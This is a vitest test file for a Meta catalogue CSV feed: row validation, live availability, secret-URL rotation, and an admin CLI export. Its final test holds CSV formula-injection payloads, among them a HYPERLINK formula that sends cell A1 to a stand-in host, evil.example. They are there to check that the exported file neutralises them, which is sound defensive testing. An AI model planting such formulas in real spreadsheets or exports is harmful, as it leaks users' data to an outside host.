import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { describe, expect, it, onTestFinished } from 'vitest';
import { runAdmin } from '../../src/cli/admin.js';
import { FEED_COLUMNS } from '../../src/catalogue/feed.service.js';
import { useTestApp } from '../helpers/app.js';
import { addBrand, addPhoto } from '../helpers/catalogue-setup.js';
import { BASE, orderBody, shop } from '../helpers/orders.js';

/**
 * The WhatsApp catalogue fed from ours: a Meta catalogue data feed at a secret URL, every row checked
 * against Meta's required fields and value formats, live availability, rotation, and the admin CLI.
 */

const mediaDir = mkdtempSync(join(tmpdir(), 'feed-media-'));
const ctx = useTestApp({ MEDIA_DIR: mediaDir, PUBLIC_URL: 'https://api.example.in' });
const TEMPLATE = 'https://shop.example.in/products/{product_sku}?variant={sku}';

async function feedShop() {
  const s = await shop(ctx, [
    {
      sku: 'KURTA',
      name: 'कुर्ता Cotton Kurta',
      description: 'Hand-block printed, "Jaipur" cotton,\nmachine wash',
      variants: [
        { sku: 'KURTA-RED-M', name: 'Red / M', attributes: { Colour: 'Red', Size: 'M' }, selling_price: '899.00', mrp: '1299.00', stock: '3' },
        { sku: 'KURTA-RED-L', name: 'Red / L', attributes: { Colour: 'Red', Size: 'L' }, selling_price: '899.00', mrp: '899.00', stock: '0' },
      ],
    },
    { sku: 'NOPHOTO', name: 'Unphotographed', variants: [{ sku: 'NOPHOTO-1', selling_price: '10.00', stock: '5' }] },
  ]);
  const [{ id: productId }] = await ctx.db.query<{ id: string }>(sql`SELECT id FROM products WHERE company_id = ${s.companyId} AND sku = 'KURTA'`);
  const brandId = await addBrand(ctx.db, s.companyId, 'Jaipur Looms', `jl-${s.companyId.slice(-6)}`);
  await ctx.db.query(sql`UPDATE products SET brand_id = ${brandId} WHERE company_id = ${s.companyId} AND id = ${productId}`);
  mkdirSync(join(mediaDir, s.companyId), { recursive: true });
  writeFileSync(join(mediaDir, s.companyId, 'kurta.jpg'), Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9]));
  await addPhoto(ctx.db, s.companyId, productId, `${s.companyId}/kurta.jpg`);
  return s;
}

const feedPath = (url: string) => new URL(url).pathname;
async function fetchFeed(url: string) {
  const res = await ctx.app.inject({ method: 'GET', url: feedPath(url) });
  return { status: res.statusCode, headers: res.headers, text: res.body };
}
const rowsOf = (text: string) => parse<Record<(typeof FEED_COLUMNS)[number], string>>(text, { columns: true, bom: true });

/** Meta's catalogue data-feed rules for the fields we send (required fields, formats, lengths). */
function expectMetaRow(row: Record<string, string>) {
  for (const required of ['id', 'title', 'description', 'availability', 'condition', 'price', 'link', 'image_link', 'brand'])
    expect(row[required], `${row.id}: ${required} is required`).toBeTruthy();
  expect(row.id.length).toBeLessThanOrEqual(100);
  expect(row.title.length).toBeLessThanOrEqual(200);
  expect(row.description.length).toBeLessThanOrEqual(9999);
  expect(row.brand.length).toBeLessThanOrEqual(100);
  expect(['in stock', 'out of stock']).toContain(row.availability);
  expect(row.condition).toBe('new');
  expect(row.price).toMatch(/^\d+\.\d{2} INR$/);
  if (row.sale_price) {
    expect(row.sale_price).toMatch(/^\d+\.\d{2} INR$/);
    expect(Number(row.sale_price.split(' ')[0])).toBeLessThan(Number(row.price.split(' ')[0]));
  }
  expect(new URL(row.link).protocol).toBe('https:');
  expect(new URL(row.image_link).protocol).toMatch(/^https?:$/);
  expect(row.quantity_to_sell_on_facebook).toMatch(/^\d+$/);
  expect(row.availability === 'in stock').toBe(Number(row.quantity_to_sell_on_facebook) > 0);
}

describe('Meta catalogue feed', () => {
  it('serves every active variant with a photo, each row valid for Meta, at a secret URL; the rest are listed as left out', async () => {
    const s = await feedShop();
    const { token } = await ctx.services.feeds.rotate(s.companyId, { kind: 'cli', name: 'test' }, TEMPLATE);
    const url = `https://api.example.in/feeds/meta/${s.companyId}/${token}.csv`;
    const res = await fetchFeed(url);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text.split('\r\n')[0]).toBe(FEED_COLUMNS.join(','));
    const rows = rowsOf(res.text);
    expect(rows.map((r) => r.id)).toEqual(['KURTA-RED-M', 'KURTA-RED-L']);
    for (const row of rows) expectMetaRow(row);
    const m = rows.find((r) => r.id === 'KURTA-RED-M')!;
    expect(m).toMatchObject({
      item_group_id: 'KURTA',
      title: 'कुर्ता Cotton Kurta - Red / M',
      description: 'Hand-block printed, "Jaipur" cotton,\nmachine wash',
      availability: 'in stock',
      price: '1299.00 INR',
      sale_price: '899.00 INR',
      link: 'https://shop.example.in/products/KURTA?variant=KURTA-RED-M',
      brand: 'Jaipur Looms',
      color: 'Red',
      size: 'M',
      quantity_to_sell_on_facebook: '3',
    });
    const l = rows.find((r) => r.id === 'KURTA-RED-L')!;
    expect(l).toMatchObject({ availability: 'out of stock', price: '899.00 INR', sale_price: '', quantity_to_sell_on_facebook: '0' });
    // the image link is the photo, fetchable for 30 days (Meta keeps what it fetched), not the 10-minute photo link
    const image = new URL(m.image_link);
    expect(Number(image.searchParams.get('expires')) - Date.now() / 1000).toBeGreaterThan(29 * 86400);
    const photo = await ctx.app.inject({ method: 'GET', url: `${image.pathname}${image.search}` });
    expect(photo.statusCode).toBe(200);
    const feed = await ctx.services.feeds.csv(s.companyId, 'https://api.example.in');
    expect(feed.leftOut).toEqual([{ sku: 'NOPHOTO-1', reason: 'no photo (Meta requires image_link)' }]);
  });

  it('shows live availability: after an order takes the last units the next fetch says out of stock', async () => {
    const s = await feedShop();
    const { token } = await ctx.services.feeds.rotate(s.companyId, { kind: 'cli', name: 'test' }, TEMPLATE);
    const url = `https://api.example.in/feeds/meta/${s.companyId}/${token}.csv`;
    const placed = await ctx.app.inject({
      method: 'POST',
      url: `${BASE}/orders`,
      headers: { 'x-api-key': s.key },
      payload: orderBody({ items: [{ product_id: 'KURTA-RED-M', quantity: 3 }] }),
    });
    expect(placed.statusCode, placed.body).toBe(201);
    const m = rowsOf((await fetchFeed(url)).text).find((r) => r.id === 'KURTA-RED-M')!;
    expect(m).toMatchObject({ availability: 'out of stock', quantity_to_sell_on_facebook: '0' });
  });

  it('a wrong, rotated or other company’s secret, a feed that is off and a malformed URL are the same 404', async () => {
    const a = await feedShop();
    const b = await feedShop();
    const first = await ctx.services.feeds.rotate(a.companyId, { kind: 'cli', name: 'test' }, TEMPLATE);
    const second = await ctx.services.feeds.rotate(a.companyId, { kind: 'cli', name: 'test' }); // rotation keeps the template
    expect(second.template).toBe(TEMPLATE);
    const path = (co: string, token: string) => `/feeds/meta/${co}/${token}.csv`;
    expect((await ctx.app.inject({ method: 'GET', url: path(a.companyId, second.token) })).statusCode).toBe(200);
    const bodies = new Set<string>();
    for (const url of [
      path(a.companyId, first.token), // rotated away
      path(b.companyId, second.token), // b's feed is off, and the secret is a's
      path(a.companyId, `mfd_${'A'.repeat(32)}`),
      path('co_nope', second.token),
      `/feeds/meta/${a.companyId}/${second.token}.json`,
      `/feeds/meta/${a.companyId}/${second.token}`,
    ]) {
      const res = await ctx.app.inject({ method: 'GET', url });
      expect({ url, status: res.statusCode }).toEqual({ url, status: 404 });
      bodies.add(res.body);
    }
    expect(bodies.size).toBe(1);
  });

  it('the product link template must be https with {sku} or {product_sku}; the first time it is required', async () => {
    const s = await feedShop();
    await expect(ctx.services.feeds.rotate(s.companyId, { kind: 'cli', name: 'test' })).rejects.toMatchObject({ kind: 'validation_failed' });
    for (const bad of ['http://shop.example.in/p/{sku}', 'https://shop.example.in/p/', 'not a url {sku}'])
      await expect(ctx.services.feeds.rotate(s.companyId, { kind: 'cli', name: 'test' }, bad)).rejects.toMatchObject({ details: [{ path: 'template' }] });
  });

  it('admin CLI: --template turns it on and prints the URL once, --out writes the same rows the URL serves', async () => {
    const s = await feedShop();
    // the CLI reads its settings from the environment, like the server
    const saved = { PUBLIC_URL: process.env.PUBLIC_URL, MEDIA_DIR: process.env.MEDIA_DIR };
    Object.assign(process.env, { PUBLIC_URL: 'https://api.example.in', MEDIA_DIR: mediaDir });
    onTestFinished(() => {
      for (const [k, v] of Object.entries(saved))
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
    });
    const lines: string[] = [];
    const on = await runAdmin(['catalog', 'feed', '--company', s.company.slug, '--template', TEMPLATE, '--json'], (t) => lines.push(t), { db: ctx.testDb.db });
    expect(on).toBe(0);
    const { url } = JSON.parse(lines[0]) as { url: string };
    expect(url).toMatch(new RegExp(`^https://api\\.example\\.in/feeds/meta/${s.companyId}/mfd_[A-Za-z0-9_-]{32}\\.csv$`));
    const out = join(mkdtempSync(join(tmpdir(), 'feed-')), 'feed.csv');
    lines.length = 0;
    expect(await runAdmin(['catalog', 'feed', '--company', s.company.slug, '--out', out, '--json'], (t) => lines.push(t), { db: ctx.testDb.db })).toBe(0);
    expect(JSON.parse(lines[0])).toMatchObject({ rows: 2, left_out: [{ sku: 'NOPHOTO-1' }] });
    const noImage = (rows: Record<string, string>[]) => rows.map(({ image_link: _image, ...rest }) => rest);
    expect(noImage(rowsOf(readFileSync(out, 'utf8')))).toEqual(noImage(rowsOf((await fetchFeed(url)).text)));
  });

  it('--out neutralises cells a spreadsheet would run as formulas (OWASP: = + - @ tab CR first); the feed Meta fetches keeps them as written', async () => {
    const hostile = {
      sku: '@SKU-1',
      name: '=HYPERLINK("https://evil.example/?"&A1,"click")',
      description: '-50% off, +GST included',
      variants: [
        {
          sku: '+SKU-1-M',
          name: 'M',
          attributes: { Colour: '\tRed', Size: '\rM' },
          selling_price: '499.00',
          mrp: '499.00',
          stock: '2',
        },
      ],
    };
    const s = await shop(ctx, [hostile]);
    const [{ id: productId }] = await ctx.db.query<{ id: string }>(sql`SELECT id FROM products WHERE company_id = ${s.companyId}`);
    const brandId = await addBrand(ctx.db, s.companyId, '=1+1', `f-${s.companyId.slice(-6)}`);
    await ctx.db.query(sql`UPDATE products SET brand_id = ${brandId} WHERE company_id = ${s.companyId} AND id = ${productId}`);
    mkdirSync(join(mediaDir, s.companyId), { recursive: true });
    writeFileSync(join(mediaDir, s.companyId, 'p.jpg'), Buffer.from([0xff, 0xd8, 0xff, 0xd9]));
    await addPhoto(ctx.db, s.companyId, productId, `${s.companyId}/p.jpg`);
    const { token } = await ctx.services.feeds.rotate(s.companyId, { kind: 'cli', name: 'test' }, TEMPLATE);

    const saved = { PUBLIC_URL: process.env.PUBLIC_URL, MEDIA_DIR: process.env.MEDIA_DIR };
    Object.assign(process.env, { PUBLIC_URL: 'https://api.example.in', MEDIA_DIR: mediaDir });
    onTestFinished(() => {
      for (const [k, v] of Object.entries(saved))
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
    });
    const out = join(mkdtempSync(join(tmpdir(), 'feed-')), 'feed.csv');
    expect(await runAdmin(['catalog', 'feed', '--company', s.company.slug, '--out', out, '--json'], () => {}, { db: ctx.testDb.db })).toBe(0);
    const [file] = rowsOf(readFileSync(out, 'utf8'));
    expect(file).toMatchObject({
      id: "'+SKU-1-M",
      item_group_id: "'@SKU-1",
      title: `'${hostile.name} - M`,
      description: "'-50% off, +GST included",
      brand: "'=1+1",
      color: "'\tRed",
      size: "'\rM",
    });
    // no cell of the file starts with a formula character any more
    for (const [column, cell] of Object.entries(file)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);

    const [served] = rowsOf((await fetchFeed(`https://api.example.in/feeds/meta/${s.companyId}/${token}.csv`)).text);
    expect(served).toMatchObject({ id: '+SKU-1-M', item_group_id: '@SKU-1', description: '-50% off, +GST included', brand: '=1+1', color: '\tRed' });
    expectMetaRow(served);
  });
});
